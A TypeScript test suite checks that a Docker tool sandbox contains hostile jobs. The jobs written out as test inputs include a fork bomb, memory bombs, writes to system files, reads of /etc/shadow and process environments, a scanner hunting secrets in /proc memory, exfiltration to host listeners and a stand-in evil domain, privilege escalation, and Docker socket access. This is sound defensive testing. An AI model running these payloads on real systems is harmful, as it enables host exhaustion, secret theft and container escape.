/**
 * Containment, against the real Docker engine: each hostile job is stopped by the
 * sandbox, says what stopped it, leaves the host alone and leaves no container behind.
 */

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type Docker from 'dockerode';
import { execToolFile } from '../../app/sandbox.ts';
import { dockerClient } from '../../infra/docker.ts';
import { ensureSandboxImage } from '../../infra/sandbox-image.ts';
import { config } from '../../services/config.ts';
import { LABEL_OWNER, LABEL_SANDBOX, OWNER } from '../../services/sandbox/container.ts';
import { createSandbox, reapOrphans, type Sandbox, type SandboxJob, type SandboxResult } from '../../services/sandbox/index.ts';

const cfg = config();
let docker: Docker;
let sandbox: Sandbox;

const CANARY_NAME = 'FORGE_CANARY_SECRET';
const CANARY = `canary-${randomBytes(8).toString('hex')}`;
const canaryFile = path.join(os.tmpdir(), `forge-canary-${randomBytes(4).toString('hex')}`);

/** Runs a script with `node -e` inside the sandbox. */
function exec(script: string, limits: SandboxJob['limits'] = {}): Promise<SandboxResult> {
  return sandbox
    .runJob({ mode: 'exec', files: {}, command: ['node', '-e', script], limits: { timeoutMs: 5_000, ...limits } })
    .then(remember);
}

/**
 * A tool with hand-written schemas (no zod to load): `body` is run()'s body, with input and ctx in scope.
 * `sideEffect` is the job's (the approved manifest's); `claims` what the module says of itself.
 */
function callTool(
  body: string,
  opts: {
    limits?: SandboxJob['limits'];
    permissions?: SandboxJob['permissions'];
    env?: Record<string, string>;
    input?: unknown;
    sideEffect?: SandboxJob['sideEffect'];
    claims?: 'read' | 'write';
  } = {},
): Promise<SandboxResult> {
  const claims = opts.claims ? `sideEffect: '${opts.claims}', ` : '';
  const tool = `
    const any = { safeParse: (v) => ({ success: true, data: v }) };
    export const manifest = { name: 'hostile', description: 'hostile tool', ${claims}permissions: { network: [], env: [] }, input: any, output: any };
    export async function run(input, ctx) { ${body} }`;
  return sandbox
    .runJob({
      mode: 'call',
      files: { 'tool.mjs': tool },
      entry: 'tool.mjs',
      input: opts.input ?? {},
      env: opts.env,
      permissions: opts.permissions,
      ...(opts.sideEffect ? { sideEffect: opts.sideEffect } : {}),
      limits: { timeoutMs: 5_000, ...opts.limits },
      // Hand-written schemas: the judge cannot read them, so it checks only that the output is JSON.
      allowOpaqueSchemas: true,
    })
    .then(remember);
}

/** Containers our jobs ran in: after the run none of their processes may survive on the host. */
const usedContainers = new Set<string>();
function remember<T extends SandboxResult>(r: T): T {
  if (r.containerId) usedContainers.add(r.containerId);
  return r;
}

/** Host processes still living in the cgroup of one of our job containers (leaked or escaped). */
function leftoverJobProcesses(): number[] {
  const pids: number[] = [];
  for (const entry of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      const cgroup = fs.readFileSync(`/proc/${entry}/cgroup`, 'utf8');
      if ([...usedContainers].some((id) => cgroup.includes(id))) pids.push(Number(entry));
    } catch {
      // the process ended while we looked
    }
  }
  return pids;
}

async function ourContainers(): Promise<string[]> {
  const list = await docker.listContainers({ all: true, filters: { label: [`${LABEL_SANDBOX}=1`, `${LABEL_OWNER}=${OWNER}`] } });
  return list.map((c) => c.Id.slice(0, 12));
}

async function eventually(what: string, check: () => Promise<boolean> | boolean, ms = 10_000): Promise<void> {
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    if (await check()) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  assert.fail(`${what} did not happen within ${ms} ms`);
}

/** The host still starts processes: the job did not exhaust host pids or memory. */
function assertHostHealthy(): void {
  const r = spawnSync(process.execPath, ['-e', 'process.stdout.write("alive")'], { encoding: 'utf8' });
  assert.equal(r.error, undefined, 'the host can still spawn a process');
  assert.equal(r.stdout, 'alive');
}

before(async () => {
  process.env[CANARY_NAME] = CANARY;
  fs.writeFileSync(canaryFile, CANARY);
  docker = dockerClient(cfg);
  await reapOrphans(docker);
  await ensureSandboxImage(docker, { tag: cfg.FORGE_SANDBOX_IMAGE });
  sandbox = createSandbox({ docker, image: cfg.FORGE_SANDBOX_IMAGE, poolSize: 2 });
});

after(async () => {
  await sandbox?.close();
  delete process.env[CANARY_NAME];
  fs.rmSync(canaryFile, { force: true });
  assert.deepEqual(await ourContainers(), [], 'no forge.sandbox container is left behind');
  assert.ok(usedContainers.size >= 10, 'the jobs reported their containers');
  await eventually('every job container process to vanish from the host', () => leftoverJobProcesses().length === 0);
});

describe('resource limits', { concurrency: 2 }, () => {
  it('stops a fork bomb at the pids limit', async () => {
    const r = await exec(
      `
      const { spawn } = require('child_process');
      const go = () => { try { spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' }).on('error', (e) => console.error('spawn', e.code)); } catch (e) { console.error('spawn', e.code); } };
      setInterval(() => { for (let i = 0; i < 5; i++) go(); }, 20);`,
      { timeoutMs: 2_500 },
    );
    assert.equal(r.ok, false);
    assert.equal(r.killedBy, 'pids', r.reason);
    assert.match(r.reason ?? '', /limit of 64 processes/);
    assertHostHealthy();
  });

  it('kills a memory bomb at the memory limit (off-heap buffers in the tool itself)', async () => {
    const r = await callTool(
      `const keep = []; for (;;) { keep.push(Buffer.alloc(8 << 20, 1)); await new Promise((r) => setImmediate(r)); }`,
    );
    assert.equal(r.ok, false);
    assert.equal(r.killedBy, 'memory', r.reason);
    assert.match(r.reason ?? '', /128 MiB memory limit/);
    assertHostHealthy();
  });

  it('kills a JS heap bomb in a child process at the memory limit', async () => {
    const r = await exec(`const a = []; for (;;) a.push(new Array(1e6).fill(1.5));`);
    assert.equal(r.killedBy, 'memory', r.reason);
  });

  it('kills a CPU spin at the wall-clock limit', async () => {
    const r = await callTool(`for (;;) {}`, { limits: { timeoutMs: 1_500 } });
    assert.equal(r.ok, false);
    assert.equal(r.killedBy, 'timeout', r.reason);
    assert.match(r.reason ?? '', /1500 ms wall-clock limit/);
  });

  it('stops a tool that sleeps forever at the wall-clock limit', async () => {
    const r = await callTool(`await new Promise(() => {});`, { limits: { timeoutMs: 1_000 } });
    assert.equal(r.ok, false);
    assert.equal(r.killedBy, 'timeout', r.reason);
    // Stopped by the runner's own deadline (error TIMEOUT) or, on a loaded host, by the host's kill: either way, at the limit.
    assert.match(r.reason ?? '', /1000 ms wall-clock limit/);
  });

  it('truncates and kills a stdout flood at the output limit', async () => {
    const r = await exec(
      `const s = 'x'.repeat(65536); const w = () => { while (process.stdout.write(s)); process.stdout.once('drain', w); }; w();`,
      { outputBytes: 256 * 1024 },
    );
    assert.equal(r.killedBy, 'output', r.reason);
    assert.equal(r.truncated, true);
    assert.ok(r.stdout.length + r.stderr.length <= 256 * 1024, `kept at most the limit (kept ${r.stdout.length})`);
    assert.match(r.reason ?? '', /more than 262144 bytes/);
  });
});

describe('filesystem', { concurrency: 2 }, () => {
  it('refuses writes outside /tmp and execution from /tmp', async () => {
    const r = await exec(`
      const fs = require('fs');
      const out = {};
      for (const p of ['/etc/passwd', '/opt/forge/runner.mjs', '/x', '/usr/bin/x', '/dev/x', '/dev/shm/x', '/var/tmp/x', '/proc/sys/kernel/hostname']) {
        try { fs.writeFileSync(p, 'pwned'); out[p] = 'WROTE'; } catch (e) { out[p] = e.code; }
      }
      fs.writeFileSync('/tmp/ok', 'fine');
      fs.writeFileSync('/tmp/run', '#!/usr/bin/node\\n'); fs.chmodSync('/tmp/run', 0o755);
      try { require('child_process').execFileSync('/tmp/run'); out.execTmp = 'RAN'; } catch (e) { out.execTmp = e.code; }
      try { fs.writeFileSync('/tmp/big', Buffer.alloc(20 << 20)); out.bigTmp = 'WROTE'; } catch (e) { out.bigTmp = e.code; }
      console.log(JSON.stringify(out));`);
    assert.equal(r.ok, true, r.reason);
    const out = JSON.parse(r.stdout) as Record<string, string>;
    for (const [p, code] of Object.entries(out)) assert.notEqual(code, 'WROTE', `${p} must not be writable`);
    assert.equal(out.execTmp, 'EACCES', '/tmp is noexec');
    assert.equal(out.bigTmp, 'ENOSPC', '/tmp is a small tmpfs');
  });
});

describe('secrets', { concurrency: 2 }, () => {
  it('shows the job none of the host environment, not even via /proc/1/environ', async () => {
    const r = await exec(`
      const fs = require('fs');
      const read = (p) => { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return e.code; } };
      console.log(JSON.stringify({ env: process.env, init: read('/proc/1/environ'), self: read('/proc/self/environ') }));`);
    assert.equal(r.ok, true, r.reason);
    assert.ok(!r.stdout.includes(CANARY), 'the canary value is not visible');
    assert.ok(!r.stdout.includes(CANARY_NAME), 'the canary name is not visible');
    assert.ok(!r.stdout.includes(process.env.HOME ?? '/root') || process.env.HOME === '/tmp', 'the host HOME is not visible');
  });

  it('keeps host files out of reach', async () => {
    const r = await exec(`
      const fs = require('fs');
      const out = {};
      for (const p of [${JSON.stringify(canaryFile)}, ${JSON.stringify(path.resolve('package.json'))}, '/etc/shadow', '/root', '/home', '/var/lib/docker', '/proc/1/root/etc/hostname']) {
        try { out[p] = String(fs.readFileSync(p)).slice(0, 40); } catch (e) { out[p] = e.code; }
      }
      console.log(JSON.stringify(out));`);
    assert.equal(r.ok, true, r.reason);
    assert.ok(!r.stdout.includes(CANARY), 'the host canary file is not readable');
    const out = JSON.parse(r.stdout) as Record<string, string>;
    assert.equal(out[canaryFile], 'ENOENT');
    assert.equal(out[path.resolve('package.json')], 'ENOENT');
  });

  it('gives a tool only its declared environment variables through ctx.env', async () => {
    const r = await callTool(`return { env: { ...ctx.env }, processEnv: Object.keys(process.env) };`, {
      permissions: { network: [], env: ['DECLARED'] },
      env: { DECLARED: 'yes', UNDECLARED: 'no' },
    });
    assert.equal(r.ok, true, r.reason);
    const out = r.output as { env: Record<string, string>; processEnv: string[] };
    assert.deepEqual(out.env, { DECLARED: 'yes' });
    assert.ok(!out.processEnv.includes('UNDECLARED') && !out.processEnv.includes(CANARY_NAME));
  });
});

/**
 * Scans a process's memory (/proc/<pid>/mem, region by region from /proc/<pid>/maps) for values
 * shaped like the test's canaries, as code would hunt for a secret the runner received and
 * filtered. Plain JS for both a tool module and `node -e`; it holds only the pattern, never a value.
 */
const SCAN = `function scan(fs, pid) {
  // One buffer for the whole scan and no strings per chunk: the scan itself must fit the job's memory limit.
  const marker = Buffer.from('canary-');
  const buf = Buffer.alloc(1 << 20);
  const fd = fs.openSync('/proc/' + pid + '/mem', 'r');
  const found = new Set();
  let scanned = 0;
  for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\\n')) {
    const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
    if (!m || /\\[(vvar|vsyscall|vvar_vclock)\\]/.test(line)) continue;
    const end = parseInt(m[2], 16);
    // Chunks overlap by one hit's length, so a value split across two reads is still seen.
    for (let at = parseInt(m[1], 16); at < end; at += (1 << 20) - 32) {
      let n = 0;
      try { n = fs.readSync(fd, buf, 0, Math.min(buf.length, end - at), at); } catch { break; }
      scanned += n;
      for (let i = buf.indexOf(marker); i >= 0 && i + 23 <= n; i = buf.indexOf(marker, i + 1)) {
        const hit = buf.toString('latin1', i, i + 23);
        if (/^canary-[0-9a-f]{16}$/.test(hit)) found.add(hit);
      }
      if (n < Math.min(buf.length, end - at)) break;
    }
  }
  return { found: [...found], scannedMb: Math.round(scanned / 2 ** 20) };
}`;

/** A tool that hunts for secrets in its own memory and in the runner's (pid 1), and shows its ctx.env. */
const MEMORY_SCANNER = `import fs from 'node:fs';
import { z } from 'zod';
export const manifest = {
  name: 'memory_scanner',
  description: 'Looks for secrets in its own memory and in the memory of the runner.',
  sideEffect: 'read',
  permissions: { network: [], env: ['DECLARED_VALUE'] },
  input: z.object({}),
  output: z.object({ found: z.array(z.string()), refused: z.array(z.string()), env: z.record(z.string(), z.string()) }),
};
${SCAN}
export async function run(_input: unknown, ctx: { env: Record<string, string> }) {
  const found: string[] = [];
  const refused: string[] = [];
  for (const pid of ['self', '1']) {
    try { found.push(...(scan(fs, pid) as { found: string[] }).found); } catch (e) { refused.push(pid + ': ' + (e as { code?: string }).code); }
  }
  return { found, refused, env: { ...ctx.env } };
}
`;

describe('secrets: --env filtered on the host', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'forge-memscan-'));
  const file = path.join(dir, 'tool.ts');
  fs.writeFileSync(file, MEMORY_SCANNER);
  const declared = `canary-${randomBytes(8).toString('hex')}`;
  const undeclared = `canary-${randomBytes(8).toString('hex')}`;
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  it("sends an undeclared --env value nowhere, and a tool cannot scan its own memory or the runner's for one", async () => {
    const r = remember(
      await execToolFile(cfg, { file, input: {}, env: { DECLARED_VALUE: declared, UNDECLARED_SECRET: undeclared }, timeoutMs: 30_000 }),
    );
    assert.equal(r.ok, true, r.reason);
    const out = r.output as { found: string[]; refused: string[]; env: Record<string, string> };
    assert.deepEqual(out.env, { DECLARED_VALUE: declared }, 'the declared value reached the tool');
    // The tool runs in a judged process under Node's permission model: /proc/*/mem is not among what it may read.
    assert.deepEqual(out.refused, ['self: ERR_ACCESS_DENIED', '1: ERR_ACCESS_DENIED']);
    assert.deepEqual(out.found, []);
    assert.deepEqual(r.envWithheld, {
      names: ['UNDECLARED_SECRET'],
      reason: "not in the manifest's permissions.env (declared: DECLARED_VALUE)",
    });
  });

  it("control: a value sent into the container is recoverable from the runner's memory by unconfined code (why filtering must happen on the host)", async () => {
    const r = remember(
      await sandbox.runJob({
        mode: 'exec',
        files: {},
        command: ['node', '-e', `const fs = require('fs');\n${SCAN}\nconsole.log(JSON.stringify(scan(fs, '1')));`],
        env: { UNDECLARED_SECRET: undeclared },
        limits: { timeoutMs: 30_000 },
      }),
    );
    assert.equal(r.ok, true, r.reason);
    const out = JSON.parse(r.stdout) as { found: string[]; scannedMb: number };
    assert.ok(out.found.includes(undeclared), `the job message held it, and the scan found it (${out.scannedMb} MiB scanned)`);
  });
});

describe('side effects: a read tool may only read', { concurrency: 2 }, () => {
  const api = { network: ['api.example.com'], env: [] };

  it('refuses DELETE, POST, PUT and PATCH from a tool approved as read, naming the method and the side effect', async () => {
    const r = await callTool(
      `const out = {};
       for (const method of ['DELETE', 'POST', 'PUT', 'PATCH']) {
         try { await ctx.fetch('https://api.example.com/items/1', { method }); out[method] = 'SENT'; } catch (e) { out[method] = e.code + ': ' + e.message; }
       }
       return out;`,
      { permissions: api, sideEffect: 'read' },
    );
    assert.equal(r.ok, true, r.reason);
    for (const [method, outcome] of Object.entries(r.output as Record<string, string>)) {
      assert.equal(
        outcome,
        `PERMISSION_DENIED: permission denied: ${method} to api.example.com is not allowed: the tool declares sideEffect 'read', and a read tool may send only GET, HEAD, OPTIONS`,
      );
    }
  });

  it('fails a production call of a read tool that tries DELETE, with the method and the side effect in its reason', async () => {
    const r = await callTool(`return await ctx.fetch('https://api.example.com/items/1', { method: 'DELETE' });`, {
      permissions: api,
      sideEffect: 'read',
    });
    assert.equal(r.ok, false);
    assert.equal(r.error?.code, 'PERMISSION_DENIED');
    assert.match(r.reason ?? '', /DELETE to api\.example\.com is not allowed: the tool declares sideEffect 'read'/);
    assert.match(String(r.error?.fix), /declare sideEffect: 'write'/);
  });

  it('holds a tool to its approved side effect even when its module claims write', async () => {
    const r = await callTool(`return await ctx.fetch('https://api.example.com/items/1', { method: 'POST', body: '{}' });`, {
      permissions: api,
      sideEffect: 'read',
      claims: 'write',
    });
    assert.equal(r.error?.code, 'PERMISSION_DENIED');
    assert.match(r.reason ?? '', /POST to api\.example\.com is not allowed: the tool declares sideEffect 'read'/);
  });

  it('refuses a method-override header asking for DELETE on a GET', async () => {
    const r = await callTool(
      `return await ctx.fetch('https://api.example.com/items/1', { headers: { 'X-HTTP-Method-Override': 'DELETE' } });`,
      { permissions: api, sideEffect: 'read' },
    );
    assert.equal(r.error?.code, 'PERMISSION_DENIED');
    assert.match(r.reason ?? '', /DELETE \(through the x-http-method-override header\)/);
  });
});

describe('network', { concurrency: 2 }, () => {
  it('cannot reach a listener on the host (exfiltration), on any host address', async () => {
    const received: string[] = [];
    const server = net.createServer((s) => {
      s.on('data', (d) => received.push(String(d)));
      s.on('error', () => undefined);
    });
    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve));
    const port = (server.address() as net.AddressInfo).port;
    const hosts = [
      '127.0.0.1',
      '172.17.0.1',
      ...Object.values(os.networkInterfaces())
        .flat()
        .filter((i) => i?.family === 'IPv4')
        .map((i) => i!.address),
    ];
    try {
      const r = await exec(`
        const net = require('net');
        const hosts = ${JSON.stringify([...new Set(hosts)])};
        const out = {};
        Promise.all(hosts.map((h) => new Promise((done) => {
          const s = net.connect({ host: h, port: ${port}, timeout: 1500 }, () => { s.write('stolen ${CANARY}'); out[h] = 'CONNECTED'; s.end(); done(); });
          s.on('error', (e) => { out[h] = e.code; done(); });
          s.on('timeout', () => { out[h] = 'TIMEOUT'; s.destroy(); done(); });
        }))).then(() => fetch('http://172.17.0.1:${port}/').then(() => { out.fetch = 'CONNECTED'; }, (e) => { out.fetch = e.cause?.code ?? e.message; }))
          .then(() => console.log(JSON.stringify(out)));`);
      assert.equal(r.ok, true, r.reason);
      const out = JSON.parse(r.stdout) as Record<string, string>;
      for (const [h, code] of Object.entries(out)) assert.notEqual(code, 'CONNECTED', `${h} must be unreachable`);
      await new Promise((res) => setTimeout(res, 200));
      assert.deepEqual(received, [], 'nothing arrived at the host listener');
    } finally {
      server.close();
    }
  });

  it('cannot resolve names', async () => {
    const r = await exec(`
      const dns = require('dns');
      const out = {};
      dns.lookup('example.com', (e) => { out.lookup = e ? e.code : 'RESOLVED';
        dns.resolve4('example.com', (e2) => { out.resolve = e2 ? e2.code : 'RESOLVED'; console.log(JSON.stringify(out)); }); });`);
    assert.equal(r.ok, true, r.reason);
    const out = JSON.parse(r.stdout) as Record<string, string>;
    assert.notEqual(out.lookup, 'RESOLVED');
    assert.notEqual(out.resolve, 'RESOLVED');
  });

  it('refuses ctx.fetch to an undeclared domain, naming it and the declared list', async () => {
    const r = await callTool(`return await ctx.fetch('https://evil.example.net/steal');`, {
      permissions: { network: ['api.example.com', '*.good.org'], env: [] },
    });
    assert.equal(r.ok, false);
    assert.equal(r.error?.code, 'PERMISSION_DENIED');
    assert.match(r.reason ?? '', /evil\.example\.net.*api\.example\.com, \*\.good\.org/);
  });
});

describe('privileges', { concurrency: 2 }, () => {
  it('runs as uid 10001 with no capabilities, no-new-privs, and cannot become root', async () => {
    const r = await exec(`
      const fs = require('fs');
      const status = fs.readFileSync('/proc/self/status', 'utf8');
      const field = (k) => (status.match(new RegExp('^' + k + ':\\\\s*(\\\\S+)', 'm')) || [])[1];
      const out = { uid: process.getuid(), gid: process.getgid(), capEff: field('CapEff'), capBnd: field('CapBnd'), noNewPrivs: field('NoNewPrivs') };
      try { process.setuid(0); out.setuid = 'ROOT'; } catch (e) { out.setuid = e.code; }
      try { process.setgid(0); out.setgid = 'ROOT'; } catch (e) { out.setgid = e.code; }
      try { fs.chmodSync('/usr/bin/node', 0o4755); out.chmodSuid = 'DONE'; } catch (e) { out.chmodSuid = e.code; }
      try { fs.writeFileSync('/tmp/s', 'x'); fs.chmodSync('/tmp/s', 0o4755); out.suidMode = (fs.statSync('/tmp/s').mode & 0o4000) ? 'set-but-nosuid-mount' : 'cleared'; } catch (e) { out.suidMode = e.code; }
      console.log(JSON.stringify(out));`);
    assert.equal(r.ok, true, r.reason);
    const out = JSON.parse(r.stdout) as Record<string, string | number>;
    assert.equal(out.uid, 10001);
    assert.equal(out.gid, 10001);
    assert.equal(out.capEff, '0000000000000000');
    assert.equal(out.capBnd, '0000000000000000');
    assert.equal(out.noNewPrivs, '1');
    assert.equal(out.setuid, 'EPERM');
    assert.equal(out.setgid, 'EPERM');
    assert.notEqual(out.chmodSuid, 'DONE');
  });

  it('cannot reach the Docker socket or the Docker API', async () => {
    const r = await exec(`
      const fs = require('fs');
      const net = require('net');
      const out = { sockets: ['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock'].filter((p) => fs.existsSync(p)) };
      const s = net.connect('/var/run/docker.sock');
      s.on('connect', () => { out.unix = 'CONNECTED'; s.end(); finish(); });
      s.on('error', (e) => { out.unix = e.code; finish(); });
      let pending = 2;
      const t = net.connect({ host: '172.17.0.1', port: 2375, timeout: 1000 });
      t.on('connect', () => { out.tcp = 'CONNECTED'; t.end(); finish(); });
      t.on('error', (e) => { out.tcp = e.code; finish(); });
      t.on('timeout', () => { out.tcp = 'TIMEOUT'; t.destroy(); finish(); });
      function finish() { if (--pending === 0) console.log(JSON.stringify(out)); }`);
    assert.equal(r.ok, true, r.reason);
    const out = JSON.parse(r.stdout) as { sockets: string[]; unix: string; tcp: string };
    assert.deepEqual(out.sockets, []);
    assert.equal(out.unix, 'ENOENT');
    assert.notEqual(out.tcp, 'CONNECTED');
  });
});
